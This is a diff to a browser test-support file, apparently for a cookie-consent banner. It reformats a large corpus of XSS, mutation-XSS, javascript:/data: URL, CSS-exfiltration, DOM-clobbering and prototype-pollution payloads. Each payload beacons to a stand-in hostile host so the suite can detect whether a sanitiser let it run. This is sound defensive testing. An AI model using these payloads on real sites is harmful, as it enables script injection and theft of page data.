@@ -33,9 +33,11 @@ export interface HostilePayload {
  * Script text that reports payload `id`: to the top page's detector, else by a request (a frame of
  * another origin cannot reach top). No spaces and no double quotes, so it fits any attribute.
  */
-export const ranCode = (id: string): string => `try{top.__wsHostileRan('${id}')}catch(e){fetch('https://${HOSTILE_HOST}/ran/${id}')}`;
+export const ranCode = (id: string): string =>
+  `try{top.__wsHostileRan('${id}')}catch(e){fetch('https://${HOSTILE_HOST}/ran/${id}')}`;
 /** The same without any quote character, for payloads that are themselves inside quotes. */
-export const ranCodeUnquoted = (id: string): string => `try{top.__wsHostileRan\`${id}\`}catch(e){fetch\`//${HOSTILE_HOST}/ran/${id}\`}`;
+export const ranCodeUnquoted = (id: string): string =>
+  `try{top.__wsHostileRan\`${id}\`}catch(e){fetch\`//${HOSTILE_HOST}/ran/${id}\`}`;
 /** A URL on the hostile host; `kind` says why a request there is wrong (ran, css, form, held, next). */
 export const hostileUrl = (kind: string, id: string): string => `https://${HOSTILE_HOST}/${kind}/${id}`;
 /** The same-server recorder path for payload `id`. */
@@ -88,7 +90,10 @@ const html = list('html', [
   ['button-formaction', (id) => `<form><button formaction="${javascriptUrl(id)}">Senden</button></form>`],
   ['noscript-mxss', (id) => `<noscript><p title="</noscript><img src=x onerror=${ranCodeUnquoted(id)}>"></noscript>`],
   ['svg-style-mxss', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${ranCodeUnquoted(id)}>">`],
-  ['form-math-mxss', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ranCodeUnquoted(id)}>`],
+  [
+    'form-math-mxss',
+    (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ranCodeUnquoted(id)}>`,
+  ],
   ['template', (id) => `<template><img src=x onerror="${ranCode(id)}"></template>`],
   ['xmp-mxss', (id) => `<xmp><p title="</xmp><img src=x onerror=${ranCodeUnquoted(id)}>"></xmp>`],
   ['textarea-mxss', (id) => `<textarea><p title="</textarea><img src=x onerror=${ranCodeUnquoted(id)}>"></textarea>`],
@@ -99,7 +104,10 @@ const html = list('html', [
   ['uppercase-handler', (id) => `<IMG SRC=x ONERROR="${ranCode(id)}">`],
   ['slash-separator', (id) => `<img/src=x/onerror=${ranCodeUnquoted(id)}>`],
   ['nested-script', (id) => `<scr<script>ipt>${ranCode(id)}</scr</script>ipt>`],
-  ['custom-element-handler', (id) => `<ws-alert type="info" onclick="${ranCode(id)}" onmouseover="${ranCode(id)}">Hinweis</ws-alert>`],
+  [
+    'custom-element-handler',
+    (id) => `<ws-alert type="info" onclick="${ranCode(id)}" onmouseover="${ranCode(id)}">Hinweis</ws-alert>`,
+  ],
   ['isindex', (id) => `<isindex type=image src=1 onerror=${ranCodeUnquoted(id)}>`],
   ['object-hostile', (id) => `<object data="${hostileUrl('object', id)}"></object>`],
 ]);
@@ -110,22 +118,42 @@ const svgMathml = list('svg-mathml', [
   ['svg-script', (id) => `<svg><script>${ranCode(id)}</script></svg>`],
   ['svg-script-href', (id) => `<svg><script href="data:text/javascript,${ranCode(id)}"></script></svg>`],
   ['svg-a-href', (id) => `<svg><a href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`],
-  ['svg-a-xlink', (id) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`],
-  ['svg-animate-href', (id) => `<svg><a><animate attributeName="href" values="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`],
-  ['svg-set-href', (id) => `<svg><a><set attributeName="href" to="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`],
+  [
+    'svg-a-xlink',
+    (id) =>
+      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`,
+  ],
+  [
+    'svg-animate-href',
+    (id) => `<svg><a><animate attributeName="href" values="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`,
+  ],
+  [
+    'svg-set-href',
+    (id) => `<svg><a><set attributeName="href" to="${javascriptUrl(id)}"/><text y="20">Mehr</text></a></svg>`,
+  ],
   ['svg-animate-onbegin', (id) => `<svg><animate onbegin="${ranCode(id)}" attributeName="x" dur="1s"/></svg>`],
   ['svg-foreignobject', (id) => `<svg><foreignObject><img src=x onerror="${ranCode(id)}"></foreignObject></svg>`],
   ['svg-image-onerror', (id) => `<svg><image href="x" onerror="${ranCode(id)}"/></svg>`],
-  ['svg-use-data', (id) => `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror=${ranCodeUnquoted(id)} /></svg>#u"/></svg>`],
+  [
+    'svg-use-data',
+    (id) =>
+      `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror=${ranCodeUnquoted(id)} /></svg>#u"/></svg>`,
+  ],
   ['svg-title-mxss', (id) => `<svg><title><img src=x onerror=${ranCodeUnquoted(id)}></title></svg>`],
   ['svg-desc-cdata', (id) => `<svg><desc><![CDATA[</desc><img src=x onerror=${ranCodeUnquoted(id)}>]]></desc></svg>`],
   ['svg-p-style', (id) => `<svg><p><style><img src=x onerror=${ranCodeUnquoted(id)}></style></p></svg>`],
   ['svg-iframe', (id) => `<svg><foreignObject><iframe src="${javascriptUrl(id)}"></iframe></foreignObject></svg>`],
   ['math-href', (id) => `<math href="${javascriptUrl(id)}"><mi>Mehr</mi></math>`],
-  ['math-maction', (id) => `<math><maction actiontype="statusline" xlink:href="${javascriptUrl(id)}">Mehr</maction></math>`],
+  [
+    'math-maction',
+    (id) => `<math><maction actiontype="statusline" xlink:href="${javascriptUrl(id)}">Mehr</maction></math>`,
+  ],
   ['math-mi-xlink', (id) => `<math><mi xlink:href="${javascriptUrl(id)}">Mehr</mi></math>`],
   ['math-mglyph-style', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${ranCodeUnquoted(id)}>`],
-  ['math-annotation-xml', (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${ranCode(id)}"></annotation-xml></math>`],
+  [
+    'math-annotation-xml',
+    (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${ranCode(id)}"></annotation-xml></math>`,
+  ],
   ['math-mtext-script', (id) => `<math><mtext><script>${ranCode(id)}</script></mtext></math>`],
 ]);
 
@@ -152,7 +180,10 @@ const URL_PREFIXES: Array<[string, string]> = [
 ];
 
 const url = list('url', [
-  ...URL_PREFIXES.map(([name, prefix]): [string, (id: string) => string] => [`javascript-${name}`, (id) => `${prefix}${javascriptUrl(id)}`]),
+  ...URL_PREFIXES.map(([name, prefix]): [string, (id: string) => string] => [
+    `javascript-${name}`,
+    (id) => `${prefix}${javascriptUrl(id)}`,
+  ]),
   ['javascript-trailing-nbsp', (id) => `${javascriptUrl(id)}\u00a0`],
   ['inner-tab', (id) => `java\tscript:${ranCode(id)}`],
   ['inner-newline', (id) => `java\nscript:${ranCode(id)}`],
@@ -163,7 +194,10 @@ const url = list('url', [
   ['vbscript', (id) => `vbscript:${ranCode(id)}`],
   ['data-html', (id) => `data:text/html,<script>${ranCode(id)}</script>`],
   ['data-html-base64', (id) => `data:text/html;base64,${btoa(`<script>${ranCode(id)}</script>`)}`],
-  ['data-svg', (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=${ranCodeUnquoted(id)}></svg>`],
+  [
+    'data-svg',
+    (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=${ranCodeUnquoted(id)}></svg>`,
+  ],
   ['nbsp-data-html', (id) => `\u00a0data:text/html,<script>${ranCode(id)}</script>`],
   ['percent-encoded-scheme', (id) => `%6Aavascript:${ranCode(id)}`],
 ]);
@@ -191,19 +225,40 @@ const css = list('css', [
   // property would override each other and one of them would look harmless.
   ['style-background', (id) => `<style>body{background:url(${hostileUrl('css', id)})}</style>`],
   ['style-import', (id) => `<style>@import url(${hostileUrl('css', id)}.css);</style>`],
-  ['style-font-face', (id) => `<style>@font-face{font-family:h;src:url(${hostileUrl('css', id)})}body{font-family:h}</style>`],
+  [
+    'style-font-face',
+    (id) => `<style>@font-face{font-family:h;src:url(${hostileUrl('css', id)})}body{font-family:h}</style>`,
+  ],
   ['style-escaped-url', (id) => `<style>body::after{content:\\75 rl(${hostileUrl('css', id)})}</style>`],
-  ['style-custom-property', (id) => `<style>:root{--h:url(${hostileUrl('css', id)})}html::before{content:var(--h)}</style>`],
+  [
+    'style-custom-property',
+    (id) => `<style>:root{--h:url(${hostileUrl('css', id)})}html::before{content:var(--h)}</style>`,
+  ],
   ['style-before-content', (id) => `<style>body::before{content:url(${hostileUrl('css', id)})}</style>`],
-  ['style-attribute-leak', (id) => `<style>input[value]{background-image:url(${hostileUrl('css', id)})}input[value^="a"]{border-image-source:url(${hostileUrl('css', id)}-a)}</style>`],
-  ['style-hide-banner', (id) => `<style>ws-consent-banner,ws-manage-consent{display:none!important}html::after{content:url(${hostileUrl('css', id)})}</style>`],
+  [
+    'style-attribute-leak',
+    (id) =>
+      `<style>input[value]{background-image:url(${hostileUrl('css', id)})}input[value^="a"]{border-image-source:url(${hostileUrl('css', id)}-a)}</style>`,
+  ],
+  [
+    'style-hide-banner',
+    (id) =>
+      `<style>ws-consent-banner,ws-manage-consent{display:none!important}html::after{content:url(${hostileUrl('css', id)})}</style>`,
+  ],
   ['style-recorder', (id) => `<style>html{background-image:url(${recorderUrl('css', id)})}</style>`],
   ['svg-style', (id) => `<svg><style>svg{background:url(${hostileUrl('css', id)})}</style></svg>`],
   ['style-attribute', (id) => `<div style="background-image:url(${hostileUrl('css', id)})">Text</div>`],
   ['style-attribute-entities', (id) => `<div style="background-image:u&#114;l(${hostileUrl('css', id)})">Text</div>`],
-  ['style-attribute-overlay', (id) => `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff url(${hostileUrl('css', id)})">Alles gut</div>`],
+  [
+    'style-attribute-overlay',
+    (id) =>
+      `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff url(${hostileUrl('css', id)})">Alles gut</div>`,
+  ],
   ['link-stylesheet', (id) => `<link rel="stylesheet" href="${hostileUrl('css', id)}.css">`],
-  ['form-action', (id) => `<form action="${hostileUrl('form', id)}"><input name="q" value="x"><button>Senden</button></form>`],
+  [
+    'form-action',
+    (id) => `<form action="${hostileUrl('form', id)}"><input name="q" value="x"><button>Senden</button></form>`,
+  ],
   ['form-input-image', (id) => `<form><input type="image" src="${hostileUrl('form', id)}" alt="Senden"></form>`],
   ['button-formaction-hostile', (id) => `<form><button formaction="${hostileUrl('form', id)}">Senden</button></form>`],
 ]);
@@ -212,22 +267,49 @@ const css = list('css', [
 const marked = list('marked', [
   ['script-functional', (id) => `<script type="text/plain" data-category="functional">${ranCode(id)}</script>`],
   ['script-marketing', (id) => `<script type="text/plain" data-category="marketing">${ranCode(id)}</script>`],
-  ['script-statistics-src', (id) => `<script type="text/plain" data-category="statistics" data-src="${hostileUrl('ran', id)}.js"></script>`],
+  [
+    'script-statistics-src',
+    (id) => `<script type="text/plain" data-category="statistics" data-src="${hostileUrl('ran', id)}.js"></script>`,
+  ],
   ['a-data-href', (id) => `<a data-category="functional" data-href="${javascriptUrl(id)}">Mehr</a>`],
   ['a-data-href-nbsp', (id) => `<a data-category="functional" data-href="&nbsp;${javascriptUrl(id)}">Mehr</a>`],
-  ['svg-a-data-href', (id) => `<svg><a data-category="functional" data-href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`],
-  ['area-data-href', (id) => `<map name="karte-${id}"><area data-category="functional" data-href="${javascriptUrl(id)}" shape="default" alt="Mehr"></map>`],
-  ['iframe-data-src', (id) => `<iframe data-category="marketing" data-src="${javascriptUrl(id)}" title="Video"></iframe>`],
-  ['iframe-data-src-data', (id) => `<iframe data-category="marketing" data-src="data:text/html,<script>${ranCode(id)}</script>" title="Video"></iframe>`],
+  [
+    'svg-a-data-href',
+    (id) => `<svg><a data-category="functional" data-href="${javascriptUrl(id)}"><text y="20">Mehr</text></a></svg>`,
+  ],
+  [
+    'area-data-href',
+    (id) =>
+      `<map name="karte-${id}"><area data-category="functional" data-href="${javascriptUrl(id)}" shape="default" alt="Mehr"></map>`,
+  ],
+  [
+    'iframe-data-src',
+    (id) => `<iframe data-category="marketing" data-src="${javascriptUrl(id)}" title="Video"></iframe>`,
+  ],
+  [
+    'iframe-data-src-data',
+    (id) =>
+      `<iframe data-category="marketing" data-src="data:text/html,<script>${ranCode(id)}</script>" title="Video"></iframe>`,
+  ],
   ['object-data-data', (id) => `<object data-category="marketing" data-data="${javascriptUrl(id)}"></object>`],
   ['embed-data-src', (id) => `<embed data-category="marketing" data-src="${javascriptUrl(id)}">`],
   ['img-src-early', (id) => `<img data-category="marketing" src="${hostileUrl(HELD_KIND, id)}" alt="Karte">`],
   ['img-srcset-early', (id) => `<img data-category="marketing" srcset="${hostileUrl(HELD_KIND, id)} 1x" alt="Karte">`],
   ['video-poster-early', (id) => `<video data-category="marketing" poster="${hostileUrl(HELD_KIND, id)}"></video>`],
-  ['video-source-early', (id) => `<video data-category="marketing"><source src="${hostileUrl(HELD_KIND, id)}.mp4"></video>`],
-  ['picture-source-early', (id) => `<picture data-category="marketing"><source srcset="${hostileUrl(HELD_KIND, id)}"><img alt="Bild"></picture>`],
+  [
+    'video-source-early',
+    (id) => `<video data-category="marketing"><source src="${hostileUrl(HELD_KIND, id)}.mp4"></video>`,
+  ],
+  [
+    'picture-source-early',
+    (id) =>
+      `<picture data-category="marketing"><source srcset="${hostileUrl(HELD_KIND, id)}"><img alt="Bild"></picture>`,
+  ],
   ['object-data-early', (id) => `<object data-category="marketing" data="${hostileUrl(HELD_KIND, id)}"></object>`],
-  ['iframe-src-early', (id) => `<iframe data-category="marketing" src="${hostileUrl(HELD_KIND, id)}" title="Karte"></iframe>`],
+  [
+    'iframe-src-early',
+    (id) => `<iframe data-category="marketing" src="${hostileUrl(HELD_KIND, id)}" title="Karte"></iframe>`,
+  ],
 ]);
 
 /** Names whose element would shadow a global or a document property the runtime relies on. */
@@ -255,7 +337,10 @@ const clobbering = list('clobbering', [
   ['form-id-gtag', () => `<form id="gtag"></form>`],
   ['a-id-gtag-dataLayer', () => `<a id="gtag"></a><a id="dataLayer"></a>`],
   ['div-settings-before', () => `<div id="ws-consent-settings">{"consenttype":"other"}</div>`],
-  ['plain-script-settings-before', () => `<script type="text/plain" id="ws-consent-settings">{"consenttype":"other"}</script>`],
+  [
+    'plain-script-settings-before',
+    () => `<script type="text/plain" id="ws-consent-settings">{"consenttype":"other"}</script>`,
+  ],
   ['a-id-cmplz', () => `<a id="cmplz_has_consent"></a><a id="wp_has_consent"></a>`],
   ['img-name-cookie', () => `<img name="cookie" alt="">`],
   ['img-name-getElementById', () => `<img name="getElementById" alt="">`],
@@ -299,17 +384,45 @@ const hash = list('hash', [
 /** Off-canvas `config` attributes: parsed as JSON, read field by field, never used as markup or CSS. */
 const offcanvas = list('offcanvas', [
   ['label-markup', (id) => JSON.stringify({ label: `<img src=x onerror="${ranCode(id)}">`, is_opened: 'yes' })],
-  ['type-markup', (id) => JSON.stringify({ type: `"><img src=x onerror="${ranCode(id)}">`, position: `<svg onload="${ranCode(id)}">` })],
-  ['click-selector-markup', (id) => JSON.stringify({ on_click: 'yes', on_click_element: `</style><img src=x onerror="${ranCode(id)}">` })],
+  [
+    'type-markup',
+    (id) =>
+      JSON.stringify({ type: `"><img src=x onerror="${ranCode(id)}">`, position: `<svg onload="${ranCode(id)}">` }),
+  ],
+  [
+    'click-selector-markup',
+    (id) => JSON.stringify({ on_click: 'yes', on_click_element: `</style><img src=x onerror="${ranCode(id)}">` }),
+  ],
   ['click-selector-broad', () => JSON.stringify({ on_click: 'yes', on_click_element: '*' })],
-  ['scroll-selector-invalid', () => JSON.stringify({ on_scroll: 'yes', scroll_to: 'element', scroll_element: ':has(<)' })],
-  ['speed-css', (id) => JSON.stringify({ enter_animation_speed: `1;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' })],
-  ['height-css', (id) => JSON.stringify({ height: `100px;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' })],
-  ['position-css', (id) => JSON.stringify({ position: `center}body{background:url(${hostileUrl('css', id)})`, is_opened: 'yes' })],
+  [
+    'scroll-selector-invalid',
+    () => JSON.stringify({ on_scroll: 'yes', scroll_to: 'element', scroll_element: ':has(<)' }),
+  ],
+  [
+    'speed-css',
+    (id) => JSON.stringify({ enter_animation_speed: `1;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
+  ],
+  [
+    'height-css',
+    (id) => JSON.stringify({ height: `100px;background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
+  ],
+  [
+    'position-css',
+    (id) => JSON.stringify({ position: `center}body{background:url(${hostileUrl('css', id)})`, is_opened: 'yes' }),
+  ],
   ['proto-pollution', () => '{"__proto__":{"wsPolluted":"yes","type":"sliding-bar"},"is_opened":"yes"}'],
   ['constructor-pollution', () => '{"constructor":{"prototype":{"wsPolluted":"yes"}},"is_opened":"yes"}'],
   ['arriving-from-javascript', (id) => JSON.stringify({ when_arriving_from: [javascriptUrl(id)], is_opened: 'yes' })],
-  ['huge-numbers', () => JSON.stringify({ frequency: 'xdays', frequency_xdays: '1e309', time_on_page: 'yes', time_on_page_duration: -Infinity })],
+  [
+    'huge-numbers',
+    () =>
+      JSON.stringify({
+        frequency: 'xdays',
+        frequency_xdays: '1e309',
+        time_on_page: 'yes',
+        time_on_page_duration: -Infinity,
+      }),
+  ],
   ['not-json-markup', (id) => `<img src=x onerror="${ranCode(id)}">`],
   ['truncated-json', () => '{"type":'],
   ['array', () => '[{"is_opened":"yes"}]'],
@@ -330,7 +443,8 @@ export const HOSTILE_CORPUS: readonly HostilePayload[] = [
   ...offcanvas,
 ];
 
-export const corpusGroups = (...groups: HostileGroup[]): HostilePayload[] => HOSTILE_CORPUS.filter((payload) => groups.includes(payload.group));
+export const corpusGroups = (...groups: HostileGroup[]): HostilePayload[] =>
+  HOSTILE_CORPUS.filter((payload) => groups.includes(payload.group));
 
 /** Payloads for places that take HTML (feed items, manage_consent_html, markup inserted later). */
 export const MARKUP_PAYLOADS = corpusGroups('html', 'svg-mathml', 'css', 'marked', 'clobbering');
@@ -361,12 +475,17 @@ export interface Placement<Field extends string = string> {
 }
 
 /** Each payload in each field: the placements of one path. */
-export function placementsOf<Field extends string>(fields: readonly Field[], payloads: readonly HostilePayload[]): Array<Placement<Field>> {
+export function placementsOf<Field extends string>(
+  fields: readonly Field[],
+  payloads: readonly HostilePayload[],
+): Array<Placement<Field>> {
   return fields.flatMap((field) => payloads.map((payload) => ({ id: `${payload.id}@${field}`, field, payload })));
 }
 
 /** A live-search answer: one result per placement, the payload in the placement's field, sane values elsewhere. */
-export function searchAnswerWith(placements: ReadonlyArray<Placement<'title' | 'post_url' | 'image_url' | 'type' | 'id'>>): Array<Record<string, unknown>> {
+export function searchAnswerWith(
+  placements: ReadonlyArray<Placement<'title' | 'post_url' | 'image_url' | 'type' | 'id'>>,
+): Array<Record<string, unknown>> {
   return placements.map((placement, index) => ({
     post_url: `#ergebnis-${index}`,
     title: `Ergebnis ${index}`,
@@ -382,8 +501,17 @@ export const CONSENT_RECORD_FIELDS = ['consent_id', 'time', 'action', 'consented
 export type ConsentRecordField = (typeof CONSENT_RECORD_FIELDS)[number];
 
 /** A consent_record answer of `consentId`: the placement's value in its field (in the category list for that one), sane values elsewhere. */
-export function consentRecordAnswerWith(consentId: string, placement: Placement<ConsentRecordField>, value = placement.payload.value): Record<string, unknown> {
-  const answer: Record<string, unknown> = { consent_id: consentId, time: '2026-11-26T10:14:03Z', action: 'save', consented_categories: ['functional'] };
+export function consentRecordAnswerWith(
+  consentId: string,
+  placement: Placement<ConsentRecordField>,
+  value = placement.payload.value,
+): Record<string, unknown> {
+  const answer: Record<string, unknown> = {
+    consent_id: consentId,
+    time: '2026-11-26T10:14:03Z',
+    action: 'save',
+    consented_categories: ['functional'],
+  };
   answer[placement.field] = placement.field === 'consented_categories' ? ['functional', value] : value;
   return answer;
 }
@@ -397,10 +525,25 @@ export const feedCard = (markup: string, index: number): string =>
   `<article class="post-card" data-placement="${index}"><h2><a href="/feed/hostile-${index}/">Beitrag ${index}</a></h2>${markup}<p>Text</p></article>`;
 
 /** Banner settings fields that hold text (services_* from the WordPress scan too), and those that hold a read-more URL. */
-export const BANNER_TEXT_FIELDS = ['header', 'message_optin', 'accept_all', 'deny', 'save_preferences', 'view_preferences', 'readmore_text', 'manage_consent', 'category_marketing', 'services_marketing'] as const;
+export const BANNER_TEXT_FIELDS = [
+  'header',
+  'message_optin',
+  'accept_all',
+  'deny',
+  'save_preferences',
+  'view_preferences',
+  'readmore_text',
+  'manage_consent',
+  'category_marketing',
+  'services_marketing',
+] as const;
 export const BANNER_URL_FIELDS = ['readmore_optin', 'readmore_eu', 'readmore_url'] as const;
 /** Colours go into custom properties: CSS injection through them must never apply. */
-export const BANNER_COLOR_FIELDS = ['colorpalette_background_color', 'colorpalette_text_color', 'colorpalette_button_accept_background_color'] as const;
+export const BANNER_COLOR_FIELDS = [
+  'colorpalette_background_color',
+  'colorpalette_text_color',
+  'colorpalette_button_accept_background_color',
+] as const;
 export const CSS_VALUE_PAYLOADS: HostilePayload[] = list('css', [
   ['value-url', (id) => `url(${hostileUrl('css', id)})`],
   ['value-breakout', (id) => `red;background:url(${hostileUrl('css', id)})`],
@@ -467,7 +610,11 @@ export async function watchForHostileRuns(): Promise<HostileWatch> {
   const opened: string[] = [];
   const navigations: string[] = [];
   window.__wsHostileRan = (id) => executions.push(String(id));
-  Object.defineProperty(window, '__wsHostile', { configurable: true, get: () => undefined, set: (value) => executions.push(`flag:${String(value)}`) });
+  Object.defineProperty(window, '__wsHostile', {
+    configurable: true,
+    get: () => undefined,
+    set: (value) => executions.push(`flag:${String(value)}`),
+  });
   // A dialog would block a headless page: each one counts as a run instead.
   window.alert = (message?: unknown) => void executions.push(`alert:${String(message)}`);
   window.confirm = (message?: string) => (executions.push(`confirm:${String(message)}`), false);
@@ -486,7 +633,8 @@ export async function watchForHostileRuns(): Promise<HostileWatch> {
     return mochaOnError ? mochaOnError.call(window, message, source, line, column, error) : false;
   };
   const navigation = (window as unknown as { navigation?: EventTarget }).navigation;
-  if (!navigation) throw new Error('the hostile corpus needs the Navigation API (Chromium) to keep the test page in place');
+  if (!navigation)
+    throw new Error('the hostile corpus needs the Navigation API (Chromium) to keep the test page in place');
   navigation.addEventListener('navigate', (event) => {
     const navigate = event as NavigateEventLike;
     if (navigate.hashChange) return;
@@ -500,7 +648,11 @@ export async function watchForHostileRuns(): Promise<HostileWatch> {
       await new Promise((resolve) => setTimeout(resolve, settleMs));
       const requests = await executeServerCommand<string[], { action: string }>('hostile-requests', { action: 'take' });
       const hostileNavigations = navigations.splice(0).filter(isHostileUrl);
-      return { executions: executions.splice(0), requests: [...requests, ...hostileNavigations], opened: opened.splice(0) };
+      return {
+        executions: executions.splice(0),
+        requests: [...requests, ...hostileNavigations],
+        opened: opened.splice(0),
+      };
     },
   };
   return watching;
@@ -518,7 +670,10 @@ export function activateEverything(root: ParentNode): void {
       link.removeAttribute('target');
       link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true, button: 0 }));
     }
-    for (const button of scope.querySelectorAll<HTMLElement>('form button, form input[type=submit], form input[type=image]')) button.click();
+    for (const button of scope.querySelectorAll<HTMLElement>(
+      'form button, form input[type=submit], form input[type=image]',
+    ))
+      button.click();
     for (const form of scope.querySelectorAll('form')) {
       try {
         form.requestSubmit();
@@ -533,7 +688,9 @@ export function activateEverything(root: ParentNode): void {
 const idsOf = (findings: HostileFindings): string[] => [
   ...findings.executions,
   // The kind and id are in the path; the host (and a run's subdomain) only repeat "hostile".
-  ...findings.requests.map((request) => new URL(request, location.href).pathname.replace(/^\/__hostile\/[^/]+\//, '/__hostile/')),
+  ...findings.requests.map((request) =>
+    new URL(request, location.href).pathname.replace(/^\/__hostile\/[^/]+\//, '/__hostile/'),
+  ),
   ...findings.opened.map((target) => `open:${target.slice(0, 80)}`),
 ];
 
@@ -549,10 +706,14 @@ export class HostileTally {
   add(findings: HostileFindings, { ignoreHeld = false } = {}): void {
     for (const id of findings.executions) this.executions.add(id);
     // After consent, content of that category may load: requests to the held kind are then expected.
-    const counted = ignoreHeld ? findings.requests.filter((request) => !new URL(request, location.href).pathname.startsWith(`/${HELD_KIND}/`)) : findings.requests;
+    const counted = ignoreHeld
+      ? findings.requests.filter((request) => !new URL(request, location.href).pathname.startsWith(`/${HELD_KIND}/`))
+      : findings.requests;
     for (const id of idsOf({ executions: [], requests: counted, opened: [] })) this.requests.add(id);
     // Opening this site in a new window is what hash links to other pages do; other schemes or hosts are not.
-    const hostileOpens = findings.opened.filter((target) => !/^https?:$/.test(new URL(target, location.href).protocol) || isHostileUrl(target));
+    const hostileOpens = findings.opened.filter(
+      (target) => !/^https?:$/.test(new URL(target, location.href).protocol) || isHostileUrl(target),
+    );
     for (const id of idsOf({ executions: [], requests: [], opened: hostileOpens })) this.executions.add(id);
   }
 
